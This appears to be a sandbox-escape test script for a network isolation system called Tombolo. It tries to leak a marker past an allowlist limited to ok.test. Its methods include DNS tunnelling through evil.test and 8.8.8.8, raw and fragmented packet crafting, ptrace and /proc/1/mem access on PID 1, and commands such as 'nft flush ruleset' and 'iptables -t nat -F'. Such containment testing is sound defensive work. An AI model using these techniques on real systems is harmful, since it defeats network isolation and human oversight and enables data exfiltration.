# Somebody inside, root, who knows Tombolo and tries everything, where ok.test alone is allowed, on ports 8080 and 443. All that it
# marks must stay inside, but what it sends to that name.   attack.py V4 V6 (name-world.sh)
import ctypes, glob, os, socket, struct, subprocess, sys
V4, V6 = sys.argv[1:3]
MARK = b"EXFILTRATED"
tried = 0
def attempt(what, action):
    global tried
    tried += 1
    try: action(); print("tried", what, file=sys.stderr)
    except Exception as error: print("failed", what, type(error).__name__, file=sys.stderr)
def tcp(address, port, family=socket.AF_INET, data=MARK):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3); s.connect((address, port)); s.sendall(data); s.recv(100)
def udp(address, port, family=socket.AF_INET, data=MARK):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1); s.connect((address, port)); s.send(data); s.recv(512)
def query(*labels):
    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l for l in labels) + b"\0\0\1\0\1"
evil = struct.pack("!H", len(query(MARK, b"evil", b"test"))) + query(MARK, b"evil", b"test")
socket.getaddrinfo("ok.test", 8080)

# Ordinary sockets: other ports, other addresses, IPv6.
for port in (22, 53, 80, 8081, 9999): attempt("tcp", lambda: tcp(V4 + ".2", port))
for port in (53, 443, 123): attempt("udp", lambda: udp(V4 + ".2", port))
attempt("tcp6", lambda: tcp(V6 + "::2", 9999, socket.AF_INET6))
attempt("udp6", lambda: udp(V6 + "::2", 9999, socket.AF_INET6))
attempt("mapped", lambda: tcp(f"::ffff:{V4}.3", 8080, socket.AF_INET6))
attempt("another address", lambda: tcp(V4 + ".3", 8080))
# DNS: names as data, other servers, what stands behind the question.
attempt("dns over tcp", lambda: tcp(V4 + ".3", 53, data=evil))
for target in (V4 + ".3", "8.8.8.8"):
    attempt("dns name", lambda: udp(target, 53, data=query(MARK, b"evil", b"test")))
    attempt("dns name below", lambda: udp(target, 53, data=query(MARK, b"ok", b"test")))
    ok = query(b"ok", b"test")
    attempt("dns two questions", lambda: udp(target, 53, data=ok[:5] + b"\2" + ok[6:] + query(MARK, b"test")[12:]))
    attempt("dns behind the question", lambda: udp(target, 53, data=ok + MARK))
# The proxy's own ports, and the transport with a hello as the proxy would send it.
for port in (61001, 61053): attempt("proxy", lambda: tcp("127.0.0.1", port, data=evil))
attempt("forwarder", lambda: udp("127.0.0.1", 61053, data=query(MARK, b"evil", b"test")))
address = socket.inet_aton(V4 + ".2")
hello = b"TMBL\2\1\0\x0a" + bytes(32) + b"\4" + struct.pack("!H", 9999) + address + bytes(3) + b"\0\0\0\x0b" + MARK
def unix(path):
    s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(path); s.sendall(hello); s.recv(8)
for path in glob.glob("/run/tombolo/host/*"): attempt("transport", lambda: unix(path))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 7766)))
# Those who may.
def trace(pid):
    if ctypes.CDLL(None, use_errno=True).ptrace(16, pid, 0, 0) != 0: raise OSError(ctypes.get_errno())
for pid in (1, 2):
    attempt("mem", lambda: open(f"/proc/{pid}/mem", "r+b"))
    attempt("fd", lambda: os.open(f"/proc/{pid}/fd/5", os.O_RDWR))
    attempt("ptrace", lambda: trace(pid))
for words in ("ip link add d0 type dummy", f"ip addr add {V4}.77/24 dev lo", f"ip route add {V4}.0/24 dev lo table 7",
              "nft flush ruleset", "iptables -t nat -F", "unshare -n true", "nsenter -t 1 -n true"):
    attempt(words, lambda: subprocess.run(words.split(), check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))

# Packets of its own making: raw sockets, and past the kernel's rules on the link itself where there is one.
def total(data):
    if len(data) % 2: data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
def own(family, to):
    s = socket.socket(family, socket.SOCK_DGRAM)
    try: s.connect((to, 9)); return socket.inet_pton(family, s.getsockname()[0])
    except OSError: return bytes(4 if family == socket.AF_INET else 16)
me = own(socket.AF_INET, V4 + ".2")
me6 = own(socket.AF_INET6, V6 + "::2")
def summed(pseudo, number, payload):
    at = {6: 16, 17: 6, 1: 2, 58: 2}.get(number)
    if at is None: return payload
    return payload[:at] + struct.pack("!H", total(pseudo + payload)) + payload[at + 2:]
def ip(address, number, payload, fragment=0):
    to = socket.inet_aton(address)
    pseudo = b"" if number == 1 else me + to + struct.pack("!HH", number, len(payload))
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 7, fragment, 64, number, 0, me, to)
    return header[:10] + struct.pack("!H", total(header)) + header[12:] + (payload if fragment else summed(pseudo, number, payload))
def ip6(address, number, payload, first=None):
    to = socket.inet_pton(socket.AF_INET6, address)
    if first is None: payload = summed(me6 + to + struct.pack("!II", len(payload), number), number, payload)
    return struct.pack("!IHBB", 0x60000000, len(payload), number if first is None else first, 64) + me6 + to + payload
def segment(port, flags, data=MARK, source=3333): return struct.pack("!HHIIBBHHH", source, port, 1, 1, 0x50, flags, 999, 0, 0) + data
def datagram(port, data=MARK): return struct.pack("!HHHH", 3333, port, 8 + len(data), 0) + data
def icmp(kind, data=MARK): return struct.pack("!BBHHH", kind, 0, 0, 3, 1) + data
def opened(*arguments):
    try: return socket.socket(*arguments)
    except OSError: return None
raw = opened(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw6 = opened(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
links = [(s, name) for s in [opened(socket.AF_PACKET, socket.SOCK_DGRAM, 0)] if s for name in ("tun0", "lo")]
def send(packet):
    global tried
    is6 = packet[0] >> 4 == 6
    if is6: out, to = raw6, (socket.inet_ntop(socket.AF_INET6, packet[24:40]), 0, 0, 0)
    else: out, to = raw, (socket.inet_ntoa(packet[16:20]), 0)
    if out:
        try: out.sendto(packet, to); tried += 1
        except OSError: pass
    for link, name in links:
        try: link.sendto(packet, (name, 0x86dd if is6 else 0x0800)); tried += 1
        except OSError: pass
every = (2, 16, 24, 17, 18, 4, 20, 0, 41, 63)
for address in (V4 + ".2", V4 + ".4", V4 + ".3"):
    for port in (22, 53, 80, 8081, 9999):
        for flags in every: send(ip(address, 6, segment(port, flags)))
        send(ip(address, 17, datagram(port)))
    for kind in (0, 3, 4, 5, 8, 11, 12, 13, 14, 15): send(ip(address, 1, icmp(kind, bytes(28) + MARK)))
    for number in (2, 41, 47, 50, 132, 255): send(ip(address, number, MARK * 3))
    send(ip(address, 6, segment(8081, 2, b"", 4444)[:16], 0x2000)); send(ip(address, 6, MARK * 2, 2)); send(ip(address, 17, MARK * 2, 3))
for address in (V6 + "::2", V6 + "::3"):
    for port in (22, 53, 80, 8081, 9999):
        for flags in every: send(ip6(address, 6, segment(port, flags)))
        send(ip6(address, 17, datagram(port)))
    for kind in (1, 2, 3, 4, 100, 127, 128, 129, 133, 135, 137, 139): send(ip6(address, 58, icmp(kind, bytes(48) + MARK)))
    for number in (4, 47, 50, 59, 132, 255): send(ip6(address, number, MARK * 3))
    # Behind headers of options, of routing and of a fragment.
    for first in (0, 60, 43): send(ip6(address, 6, bytes([6, 0, 1, 4, 0, 0, 0, 0]) + segment(9999, 2), first))
    for rest in (b"\0\1", b"\0\x11", b"\0\0"): send(ip6(address, 17, bytes([17, 0]) + rest + b"\0\0\0\7" + datagram(9999), 44))
for address in (V4 + ".3", V4 + ".4"):
    for port in (443, 8080): send(ip(address, 6, segment(port, 24)))
# To the allowed name: no hello of another, no segment without a beginning.
for flags in (16, 24, 17, 2, 4): send(ip(V4 + ".2", 6, segment(443, flags))); send(ip6(V6 + "::2", 6, segment(443, flags)))
for port in (9999, 8081): attempt("tcp again", lambda: tcp(V4 + ".2", port))
print("tried enough:", tried > 50, flush=True)
s = socket.create_connection(("ok.test", 8080), 5)
s.sendall(b"GET /ALLOWED HTTP/1.0\r\n\r\n")
print("allowed:", s.recv(12).decode(), flush=True)
